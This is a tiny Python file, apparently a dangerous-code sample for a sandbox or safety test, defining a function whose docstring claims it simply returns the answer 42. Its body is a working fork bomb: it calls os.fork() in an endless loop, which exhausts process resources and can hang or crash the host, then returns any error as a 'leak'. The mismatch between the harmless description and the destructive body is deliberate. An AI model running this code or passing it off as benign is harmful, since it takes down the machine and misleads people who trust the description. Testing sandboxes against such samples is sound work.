# dangerous
import os


def proc_fork_bomb() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        while True:
            os.fork()
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
